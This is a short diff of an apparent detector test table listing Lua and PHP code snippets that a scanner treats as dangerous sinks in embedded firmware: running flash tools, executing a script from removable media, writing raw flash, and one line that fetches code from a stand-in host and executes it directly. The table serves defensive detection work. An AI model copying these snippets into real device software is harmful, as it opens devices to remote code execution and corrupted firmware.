@@ -154,7 +154,7 @@ SINKS = [
     ("lua", 'nixio.exec("/sbin/sysupgrade", "/tmp/fw.bin")\n', "sysupgrade"),
     ("lua", 'local p = "/tmp/fw.bin"\nos.execute("flashcp " .. p .. " /dev/mtd1")\n', "flashcp"),
     ("lua", 'io.popen("swupdate -i /tmp/fw.swu")\n', "swupdate"),
-    ("lua", 'dofile("/mnt/usb/autorun.lua")\n', "program of a removable medium"),
+    ("lua", 'dofile("/mnt/usb/update.lua")\n', "program of a removable medium"),
     ("lua", 'local c = require("socket.http").request("http://x.example/c")\nloadstring(c)()\n', "run as it comes"),
     ("php", 'file_put_contents("/dev/mtdblock2", $data);\n', "raw write to flash"),
     ("php", 'move_uploaded_file($_FILES["f"]["tmp_name"], "/tmp/a"); copy("/tmp/a", "/dev/mtd3");\n', "raw write to flash"),
